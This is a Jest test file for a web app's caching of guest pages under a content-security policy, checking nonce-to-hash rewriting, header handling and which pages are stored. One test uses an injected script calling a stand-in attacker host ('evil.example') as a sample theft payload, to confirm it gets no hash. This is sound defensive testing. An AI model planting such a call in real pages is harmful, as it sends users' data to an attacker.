import { createHash } from 'node:crypto';
import { renderToStaticMarkup } from 'react-dom/server';
import { NoFigures } from '@/components/sources/sourced-data';
import { SourceNote } from '@/components/sources/source-note';
import { WeekInstead } from '@/components/crypto/notices';
import { guestPageOf, type Answer } from '@/lib/guest-pages/guest-page';
import { messages } from '@/lib/messages';
import { pagePolicy } from '@/lib/security/policy';

const nonce = 'Zm9vYmFyZm9vYmFyZm9vYg==';
const placeholder = `${'A'.repeat(22)}==`;
const { sources } = messages();
const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const flight = `self.__next_f.push([1,"4:T1,nonce ${nonce}"])`;
const documentOf = (body: string) =>
  `<!DOCTYPE html><html><head><script src="/_next/static/a.js" nonce="${nonce}"></script></head>` +
  `<body>${body}<script nonce="${nonce}">${flight}</script></body></html>`;

let policy = '';
beforeAll(async () => {
  policy = await pagePolicy(nonce, { authEmulatorHost: null, isHttps: true, isDevelopment: false });
});

const answer = (changes: Partial<Answer> = {}): Answer => ({
  status: 200,
  html: documentOf('<h1>Coins</h1>'),
  ...changes,
  headers: {
    'content-type': 'text/html; charset=utf-8',
    'content-security-policy': policy,
    'cache-control': 'private, no-store',
    ...changes.headers,
  },
});

describe('a page rendered for a nonce', () => {
  const page = () => guestPageOf(answer());
  const policyOf = (html: string) =>
    String(guestPageOf(answer({ html }))?.headers['content-security-policy']);

  test('is sent with the hashes of its own scripts, as they are sent, and with no nonce', () => {
    const text = flight.replace(nonce, placeholder);
    expect(page()?.html).toContain(`<script nonce="${placeholder}">${text}</script>`);
    expect(page()?.html).not.toContain(nonce);
    const sent = String(page()?.headers['content-security-policy']);
    expect(sent).toContain(hash(text));
    expect(sent).not.toMatch(/nonce-|strict-dynamic|unsafe-inline|unsafe-eval/);
    expect(sent).toContain("default-src 'none'");
  });

  test('has the same length as it was rendered with, so that lengths within it stay right', () => {
    expect(page()?.html).toHaveLength(answer().html.length);
  });

  test('does not allow a script that a fault wrote into it', () => {
    const theft = 'fetch("//evil.example")';
    const nonces = [
      '',
      ' nonce=""',
      ` nonce="${placeholder}"`,
      ' nonce="AAAAAAAAAAAAAAAAAAAAAA=="',
    ];
    for (const attribute of nonces) {
      const html = documentOf(`<script${attribute}>${theft}</script>`);
      expect(policyOf(html)).toContain("script-src 'self' 'sha256-");
      expect(policyOf(html)).not.toContain(hash(theft));
    }
  });

  test('has otherwise the policy that it was rendered with', () => {
    const directives = (text: string) =>
      text
        .split('; ')
        .filter((line) => !/^(?:script|style)-src /.test(line))
        .sort();
    expect(directives(policyOf(answer().html))).toEqual(directives(policy));
  });

  test('is stored without the headers of the transfer, and varies by encoding', () => {
    const link = `</font.woff2>; rel=preload; nonce="${nonce}"`;
    const transfer = { 'transfer-encoding': 'chunked', connection: 'keep-alive', date: 'now' };
    const { headers } = guestPageOf(answer({ headers: { vary: 'rsc', link, ...transfer } }))!;
    const stored = ['cache-control', 'content-security-policy', 'content-type', 'link', 'vary'];
    expect(Object.keys(headers).sort()).toEqual(stored);
    expect(headers.vary).toBe('rsc, Accept-Encoding');
    expect(headers.link).not.toContain(nonce);
  });
});

test('a prerendered page is not changed', () => {
  const headers = { 'content-security-policy': "script-src 'self' 'sha256-abc='", etag: '"x"' };
  const { html } = answer();
  expect(guestPageOf(answer({ headers }))).toMatchObject({ html, headers });
});

const withPolicy = (text: string | undefined) => ({
  headers: { 'content-security-policy': text },
});
const errorPage = documentOf('').replace('<html>', '<html id="__next_error__">');

test.each<[string, () => Partial<Answer>]>([
  ['a redirect', () => ({ status: 307 })],
  ['a missing page', () => ({ status: 404 })],
  ['an error', () => ({ status: 500 })],
  ['a cookie', () => ({ headers: { 'set-cookie': ['session=x'] } })],
  ['no policy', () => withPolicy(undefined)],
  ['a nonce of another length', () => withPolicy(`${policy} 'nonce-x'`.replace(nonce, 'eA=='))],
  ['a policy that allows nothing', () => withPolicy("default-src 'none'")],
  ['another type', () => ({ headers: { 'content-type': 'text/x-component' } })],
  ['a document that broke off', () => ({ html: documentOf('').replace('</html>', '') })],
  ['a part that failed', () => ({ html: documentOf('<template data-dgst="1"></template>') })],
  ['the page of an error', () => ({ html: errorPage })],
  ['a redirect in the document', () => ({ html: documentOf('<meta id="__next-page-redirect">') })],
])('%s is not stored', (_, changes) => {
  expect(guestPageOf(answer(changes()))).toBeNull();
});

describe('a page is stored for a moment only', () => {
  const isBrief = (body: string) => guestPageOf(answer({ html: documentOf(body) }))?.isBrief;
  const [asOf, source] = ['2026-11-26T00:00:00Z', { name: 'Sample', url: null }];
  type Shown = Parameters<typeof SourceNote>[0]['sourced'];
  const note = (status: 'live' | 'stale') => {
    const sourced = { source, asOf, fetchedAt: asOf, status, unread: null } as unknown as Shown;
    return <SourceNote sourced={sourced} ageSeconds={60} messages={sources} />;
  };
  const missing = { problem: 'timed-out', sourceName: 'x', retryPath: '/' } as const;

  test.each([
    ['a source fails', <NoFigures key="" {...missing} messages={sources.missing} />, true],
    ['figures are old', note('stale'), true],
    ['a chart shows a week instead', <WeekInstead key="" because="limited" retryPath="/" />, true],
    ['figures are new', note('live'), false],
  ])('where %s', (_, shown, expected) => {
    expect(isBrief(renderToStaticMarkup(shown))).toBe(expected);
  });

  test('where a part came after the first bytes', () => {
    expect(isBrief('<template id="B:0"></template>')).toBe(true);
  });
});
